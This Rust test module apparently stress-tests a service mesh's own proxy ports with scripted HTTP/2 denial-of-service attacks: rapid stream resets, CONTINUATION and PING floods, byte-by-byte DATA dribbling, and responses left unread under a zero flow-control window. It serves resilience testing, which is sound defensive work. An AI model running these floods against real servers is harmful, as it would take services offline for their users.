//! HTTP/2 attacks on the application's own ports: by a client without an identity, and by a client whose identity
//! policies deny.

use std::io;
use std::net::{IpAddr, SocketAddr};
use std::sync::atomic::Ordering;
use std::time::{Duration, Instant};

use leno_tests::attacker::Attacker;
use leno_tests::wire::{self, call_block, code, flag, kind, literal};

use super::insider::request;
use super::requests::framed;
use super::{CLOSED_PORT, Campaign, OPEN_PORT, REST, at};

const AUTHORITY: &str = "echo.shop:50051";
const HEALTH_CHECK: &str = "/grpc.health.v1.Health/Check";
/// Pause between two bursts.
const PAUSE: Duration = Duration::from_millis(50);
/// Approximate number of scripts that run at once. The threads start at intervals of [`PAUSE`] / `SCRIPTS`, so that
/// their bursts do not coincide.
const SCRIPTS: u32 = 32;
/// Number of streams that the attacker opens on each connection when it leaves large answers unread.
const UNREAD_STREAMS: usize = 150;
/// Number of calls in each burst when the attacker leaves small answers unread.
const UNREAD_AT_ONCE: usize = 10;
/// SETTINGS_INITIAL_WINDOW_SIZE (RFC 9113 section 6.5.2).
const INITIAL_WINDOW_SIZE: u16 = 4;

/// An attack on one connection, which lasts until the connection ends.
type Script = fn(&mut Attacker) -> io::Result<()>;

pub(super) fn attack(campaign: &mut Campaign, proxies: &[IpAddr]) {
    let scripts: [(&'static str, Script); 6] = [
        ("h2_denied_calls", denied_calls),
        ("h2_rapid_resets", rapid_resets),
        ("h2_continuations", continuations),
        ("h2_pings", pings),
        ("h2_dribbled_content", dribbled_content),
        ("h2_health_checks_without_end", health_checks_without_end),
    ];
    for (name, script) in scripts {
        run(campaign, name, &at(proxies, CLOSED_PORT), Attacker::connect, script);
    }
    for (name, port, script) in [
        ("h2_unread_denials", CLOSED_PORT, unread_denials as Script),
        ("h2_unread_health_checks", CLOSED_PORT, unread_health_checks),
        ("h2_unread_answers", OPEN_PORT, unread_answers),
    ] {
        run(campaign, name, &at(proxies, port), Attacker::connect_deaf, script);
    }
}

/// Makes the member's calls, which no policy allows. The member's Pod is meshed.
pub(super) fn call_what_policy_denies(campaign: &mut Campaign, proxies: &[IpAddr]) {
    let addresses = at(proxies, CLOSED_PORT);
    run(campaign, "member_denied_calls", &addresses, Attacker::connect, denied_calls);
    run(campaign, "member_rapid_resets", &addresses, Attacker::connect, rapid_resets);
    run(campaign, "member_dribbled_content", &addresses, Attacker::connect, dribbled_content);
    run(campaign, "member_unread_health_checks", &addresses, Attacker::connect_deaf, unread_health_checks);
}

/// Starts a thread for each address. The thread runs the script again and again.
fn run(
    campaign: &mut Campaign,
    name: &'static str,
    addresses: &[SocketAddr],
    connect: fn(SocketAddr, Instant) -> io::Result<Attacker>,
    script: Script,
) {
    let (until, connections) = (campaign.until, campaign.count(name));
    for address in addresses.iter().copied() {
        let connections = connections.clone();
        // Start the threads at different times, to spread the load: otherwise all scripts would send and pause at the
        // same moments.
        let start = PAUSE * campaign.threads.len() as u32 / SCRIPTS;
        campaign.threads.push(std::thread::spawn(move || {
            std::thread::sleep(start);
            while Instant::now() < until {
                if let Ok(mut attacker) = connect(address, until) {
                    connections.fetch_add(1, Ordering::Relaxed);
                    script(&mut attacker).ok();
                    attacker.leave(Duration::ZERO);
                }
                std::thread::sleep(REST);
            }
        }));
    }
}

fn denied_calls(attacker: &mut Attacker) -> io::Result<()> {
    attacker.greet(&[])?;
    let block = call_block(AUTHORITY, "Echo", &[]);
    for stream in wire::client_streams() {
        attacker.send(&wire::headers(stream, flag::END_STREAM, &block))?;
        attacker.pause(PAUSE)?;
    }
    Ok(())
}

fn rapid_resets(attacker: &mut Attacker) -> io::Result<()> {
    attacker.greet(&[])?;
    let block = call_block(AUTHORITY, "Echo", &[]);
    for stream in wire::client_streams() {
        attacker.send(&[wire::headers(stream, flag::NONE, &block), wire::reset(stream, code::CANCEL)].concat())?;
        if stream % 16 == 1 {
            attacker.pause(PAUSE)?;
        }
    }
    Ok(())
}

fn continuations(attacker: &mut Attacker) -> io::Result<()> {
    attacker.greet(&[])?;
    attacker.send(&wire::frame(kind::HEADERS, flag::NONE, 1, &call_block(AUTHORITY, "Echo", &[])))?;
    let more = wire::frame(kind::CONTINUATION, flag::NONE, 1, &literal("x", "y"));
    loop {
        attacker.send(&more.repeat(20))?;
        attacker.pause(PAUSE)?;
    }
}

fn pings(attacker: &mut Attacker) -> io::Result<()> {
    attacker.greet(&[])?;
    let pings = wire::frame(kind::PING, flag::NONE, 0, b"flooding").repeat(100);
    loop {
        attacker.send(&pings)?;
        attacker.pause(PAUSE)?;
    }
}

/// Makes a hundred calls whose content arrives byte by byte, each byte in its own frame.
fn dribbled_content(attacker: &mut Attacker) -> io::Result<()> {
    send_content_of_calls(attacker, &call_block(AUTHORITY, "Echo", &[]))
}

/// Makes a hundred health checks with content that never ends. A client that no policy allows may make only health
/// checks on this port.
fn health_checks_without_end(attacker: &mut Attacker) -> io::Result<()> {
    let block = post(HEALTH_CHECK);
    send_content_of_calls(attacker, &block)
}

fn send_content_of_calls(attacker: &mut Attacker, block: &[u8]) -> io::Result<()> {
    attacker.greet(&[])?;
    let streams: Vec<u32> = wire::client_streams().take(100).collect();
    let open: Vec<u8> = streams.iter().flat_map(|stream| wire::headers(*stream, flag::NONE, block)).collect();
    attacker.send(&open)?;
    let round: Vec<u8> =
        streams.iter().flat_map(|stream| wire::frame(kind::DATA, flag::NONE, *stream, b"\0")).collect();
    loop {
        attacker.send(&round)?;
        attacker.pause(PAUSE)?;
    }
}

/// Makes denied calls and never reads the answers, until the proxy stops reading the calls.
fn unread_denials(attacker: &mut Attacker) -> io::Result<()> {
    attacker.greet(&[])?;
    send_calls_on_and_on(attacker, &post("/leno.echo.v1.Echo/Unary"))
}

/// Makes health checks, which every client may make, and never reads the answers.
fn unread_health_checks(attacker: &mut Attacker) -> io::Result<()> {
    attacker.greet(&[])?;
    send_calls_on_and_on(attacker, &post(HEALTH_CHECK))
}

/// Makes allowed calls with large answers, and grants no flow-control window for the answers.
fn unread_answers(attacker: &mut Attacker) -> io::Result<()> {
    attacker.greet(&[(INITIAL_WINDOW_SIZE, 0)])?;
    let (block, message) = (post("/leno.echo.v1.Echo/Unary"), framed(&request()));
    for stream in wire::client_streams().take(UNREAD_STREAMS) {
        let content = wire::frame(kind::DATA, flag::END_STREAM, stream, &message);
        attacker.send(&[wire::headers(stream, flag::NONE, &block), content].concat())?;
        attacker.pause(PAUSE)?;
    }
    attacker.linger()
}

fn send_calls_on_and_on(attacker: &mut Attacker, block: &[u8]) -> io::Result<()> {
    let mut streams = wire::client_streams();
    loop {
        let calls = streams.by_ref().take(UNREAD_AT_ONCE).flat_map(|stream| {
            let content = wire::frame(kind::DATA, flag::END_STREAM, stream, &framed(b""));
            [wire::headers(stream, flag::NONE, block), content].concat()
        });
        attacker.send(&calls.collect::<Vec<u8>>())?;
        attacker.pause(PAUSE)?;
    }
}

fn post(path: &str) -> Vec<u8> {
    let fields = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", AUTHORITY),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ];
    fields.iter().flat_map(|(name, value)| literal(name, value)).collect()
}
